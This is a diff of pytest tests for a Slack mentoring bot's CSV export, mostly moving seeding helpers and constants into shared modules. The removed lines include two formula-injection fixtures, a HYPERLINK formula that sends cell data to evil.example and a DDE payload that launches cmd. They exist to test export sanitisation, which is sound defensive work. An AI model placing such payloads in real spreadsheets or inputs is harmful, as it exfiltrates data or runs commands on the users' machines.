@@ -6,21 +6,11 @@ from __future__ import annotations
 
 import csv
 import io
-from dataclasses import replace
-from datetime import UTC, datetime, timedelta
+from datetime import timedelta
 
 import pytest
 from sqlalchemy.orm import Session, sessionmaker
 
-from bot.services import sessions as session_rules
-from bot.services.agreements import (
-    agreement_form,
-    membership_of,
-    pair_goals,
-    save_agreement,
-    set_goal_status,
-)
-from bot.services.checkins import CheckInInput, record_outcome
 from bot.services.enrollment import save_profile
 from bot.services.errors import DomainError
 from bot.services.exports import (
@@ -31,240 +21,34 @@ from bot.services.exports import (
     export_program,
     spreadsheet_safe,
 )
-from bot.services.participation import forget, leave, pause
+from bot.services.participation import forget
 from bot.services.programs import ProgramInput, create_program, find_program
-from bot.services.surveys import SurveyInput, save_response
-from models import Pair, Participant
-from models.enums import CheckInOutcome, GoalStatus, Role, SurveyKind
-from tests.pairs import MENTEE, MENTEE_USER, MENTOR_USER, SeededPair, seed_pair
-from tests.test_enrollment import MENTOR, TEAM
-from tests.test_goals import MENTEE_GOALS, MENTOR_GOALS
-
-JOINED = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
-BOOKED = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
-FIRST = datetime(2026, 11, 3, 15, 0, tzinfo=UTC)
-HELD = datetime(2026, 11, 10, 15, 0, tzinfo=UTC)
-CANCELLED = datetime(2026, 11, 17, 15, 0, tzinfo=UTC)
-UPCOMING = datetime(2026, 12, 1, 15, 0, tzinfo=UTC)
-EXPORT_AT = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
-
-CAROL, DAN = "U0CAROL", "U0DAN"
-# What people typed that a spreadsheet would run as a formula.
-HOSTILE_DEPARTMENT = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
-HOSTILE_LOCATION = "@SUM(1+1)*cmd|' /C calc'!A0"
-CANCEL_REASON = "-1 Off sick, sorry"
-
-MENTOR_NOTE = "MENTOR-PRIVATE: he seemed bored"
-MENTEE_NOTE = "MENTEE-PRIVATE: I felt out of my depth"
-FIRST_NOTE = "MENTEE-PRIVATE: too shy to ask anything"
-LEARNED = "LEARNED-TEXT prompt chains"
-FOLLOW_UP = "FOLLOW-UP-TEXT share the deck"
-REASONS = [
-    "Analyst can teach Generative AI, which Director wants to learn",
-    "bridges Marketing and Finance",
-]
-
-PARTICIPANT_HEADER = [
-    "slack_user_id",
-    "role",
-    "department",
-    "location",
-    "career_stage",
-    "cadence",
-    "status",
-    "joined_at",
-    "teach_topics",
-    "learn_topics_self_rating",
-    "latest_survey_ratings",
-    "paired",
-]
-PAIR_HEADER = [
-    "pair_id",
-    "mentor_user_id",
-    "mentee_user_id",
-    "status",
-    "score",
-    "reasons",
-    "created_at",
-    "introduced_at",
-    "at_risk_since",
-    "at_risk_reason",
-    "ended_at",
-    "ended_reason",
-    "sessions_held",
-    "cancelled_by_mentor",
-    "cancelled_by_mentee",
-    "cancelled_side_not_said",
-    "sessions_missed",
-    "sessions_upcoming",
-    "goals_achieved",
-    "goals_open",
-    "goals_dropped",
-    "agreement_confirmed",
-]
-SESSION_HEADER = [
-    "session_id",
-    "pair_id",
-    "starts_at",
-    "minutes",
-    "status",
-    "cancelled_by",
-    "cancel_reason",
-    "mentor_rating",
-    "mentee_rating",
-    "topics_covered",
-    "follow_up_posted",
-]
-
-
-class Seeded:
-    """The seeded program's ids, for the expected rows."""
-
-    def __init__(self, pair: SeededPair, sessions: tuple[int, int, int, int]) -> None:
-        self.pair = pair
-        self.first, self.held, self.cancelled, self.upcoming = sessions
-
-
-def _enrol(session_factory: sessionmaker[Session], user: str, **changes: object) -> None:
-    with session_factory.begin() as db_session:
-        save_profile(
-            db_session,
-            team_id=TEAM,
-            user_id=user,
-            profile=replace(MENTOR, do_not_match=[], **changes),  # type: ignore[arg-type]
-            timezone="Europe/Lisbon",
-            now=JOINED,
-        )
-
-
-def _book(session_factory: sessionmaker[Session], pair: SeededPair, starts: datetime) -> int:
-    with session_factory.begin() as db_session:
-        found = session_rules.pair_for(db_session, pair_id=pair.pair_id, user_id=MENTOR_USER)
-        return session_rules.schedule(
-            db_session,
-            pair=found,
-            user_id=MENTOR_USER,
-            starts_at=starts,
-            minutes=45,
-            agenda="AGENDA-TEXT",
-            now=BOOKED,
-        ).id
-
-
-def _check_in(
-    session_factory: sessionmaker[Session], session_id: int, user: str, values: CheckInInput
-) -> None:
-    with session_factory.begin() as db_session:
-        session = session_rules.session_for(db_session, session_id=session_id, user_id=user)
-        record_outcome(
-            db_session,
-            session=session,
-            user_id=user,
-            outcome=CheckInOutcome.HAPPENED,
-            now=HELD + timedelta(hours=1),
-            values=values,
-        )
-
-
-def _agree(session_factory: sessionmaker[Session], pair: SeededPair) -> None:
-    for user, values in ((MENTEE_USER, MENTEE_GOALS), (MENTOR_USER, MENTOR_GOALS)):
-        with session_factory.begin() as db_session:
-            membership = membership_of(
-                db_session, team_id=TEAM, user_id=user, pair_id=pair.pair_id, lock=True
-            )
-            form = agreement_form(db_session, membership=membership)
-            save_agreement(
-                db_session, membership=membership, values=values, goal_ids=form.goal_ids, now=BOOKED
-            )
-    with session_factory.begin() as db_session:
-        first, second, _third = pair_goals(db_session, pair_id=pair.pair_id)
-        for goal, status in ((first, GoalStatus.ACHIEVED), (second, GoalStatus.DROPPED)):
-            set_goal_status(
-                db_session,
-                team_id=TEAM,
-                user_id=MENTEE_USER,
-                goal_id=goal.id,
-                status=status,
-                now=HELD + timedelta(days=1),
-            )
-
-
-def _survey(session_factory: sessionmaker[Session], pair: SeededPair) -> None:
-    answers = (
-        (SurveyKind.MIDPOINT, {"generative_ai": 3, "social_media": 4}, HELD),
-        (SurveyKind.FINAL, {"generative_ai": 4, "social_media": 4}, HELD + timedelta(days=5)),
-    )
-    for kind, ratings, at in answers:
-        with session_factory.begin() as db_session:
-            pair_row = db_session.get(Pair, pair.pair_id)
-            person = db_session.get(Participant, pair.mentee_participant_id)
-            assert pair_row is not None and person is not None
-            save_response(
-                db_session,
-                pair=pair_row,
-                person=person,
-                kind=kind,
-                values=SurveyInput(effectiveness=4, would_recommend=True, ratings=ratings),
-                now=at,
-            )
+from tests.factories import MENTEE, MENTEE_GOALS, MENTEE_USER, MENTOR_GOALS, MENTOR_USER, TEAM
+from tests.scenarios import (
+    AGENDA_TEXT,
+    CANCEL_REASON,
+    CAROL,
+    DAN,
+    EXPORT_AT,
+    FIRST_NOTE,
+    FOLLOW_UP,
+    HOSTILE_DEPARTMENT,
+    HOSTILE_LOCATION,
+    LEARNED,
+    MENTEE_NOTE,
+    MENTOR_NOTE,
+    PAIR_HEADER,
+    PARTICIPANT_HEADER,
+    REASONS,
+    SESSION_HEADER,
+    Seeded,
+    seed_program,
+)
 
 
 @pytest.fixture
 def program(session_factory: sessionmaker[Session]) -> Seeded:
     return seed_program(session_factory)
-
-
-def seed_program(session_factory: sessionmaker[Session]) -> Seeded:
-    """A pair with two sessions held (at the first only the mentee checked in, with a private
-    note and no follow-up; both at the second), one cancelled by the mentee, one to come;
-    goals agreed, one achieved and one dropped; the mentee surveyed twice. Beside them, Carol
-    (paused, unpaired, typed formulas into her profile) and Dan (left)."""
-    pair = seed_pair(session_factory, now=JOINED)
-    with session_factory.begin() as db_session:
-        row = db_session.get(Pair, pair.pair_id)
-        assert row is not None
-        row.score, row.reasons = 0.87, REASONS  # as matching records them
-    _enrol(session_factory, CAROL, department=HOSTILE_DEPARTMENT, location=HOSTILE_LOCATION)
-    _enrol(session_factory, DAN, role=Role.BOTH, department="Sales")
-    with session_factory.begin() as db_session:
-        pause(db_session, team_id=TEAM, user_id=CAROL, weeks=2, now=EXPORT_AT - timedelta(days=1))
-        leave(db_session, team_id=TEAM, user_id=DAN, now=EXPORT_AT - timedelta(days=2))
-
-    first = _book(session_factory, pair, FIRST)
-    held = _book(session_factory, pair, HELD)
-    cancelled = _book(session_factory, pair, CANCELLED)
-    upcoming = _book(session_factory, pair, UPCOMING)
-    _check_in(session_factory, first, MENTEE_USER, CheckInInput(rating=3, private_note=FIRST_NOTE))
-    _check_in(
-        session_factory,
-        held,
-        MENTOR_USER,
-        CheckInInput(rating=5, topics=["generative_ai"], learned=LEARNED, private_note=MENTOR_NOTE),
-    )
-    _check_in(
-        session_factory,
-        held,
-        MENTEE_USER,
-        CheckInInput(
-            rating=4,
-            topics=["social_media", "generative_ai"],
-            learned=LEARNED,
-            private_note=MENTEE_NOTE,
-            follow_up=FOLLOW_UP,
-        ),
-    )
-    with session_factory.begin() as db_session:
-        session = session_rules.session_for(db_session, session_id=cancelled, user_id=MENTEE_USER)
-        session_rules.cancel(
-            db_session,
-            session=session,
-            user_id=MENTEE_USER,
-            reason=CANCEL_REASON,
-            now=CANCELLED - timedelta(days=1),
-        )
-    _agree(session_factory, pair)
-    _survey(session_factory, pair)
-    return Seeded(pair, (first, held, cancelled, upcoming))
 
 
 def export(session_factory: sessionmaker[Session], program_id: int) -> ProgramExport:
@@ -356,7 +140,7 @@ def test_no_private_note_nor_other_free_text_is_in_any_file(
         "PRIVATE",
         LEARNED,
         FOLLOW_UP,
-        "AGENDA-TEXT",
+        AGENDA_TEXT,
     ):
         assert secret not in text
     # The goals' own words stay in the pair's DM too.
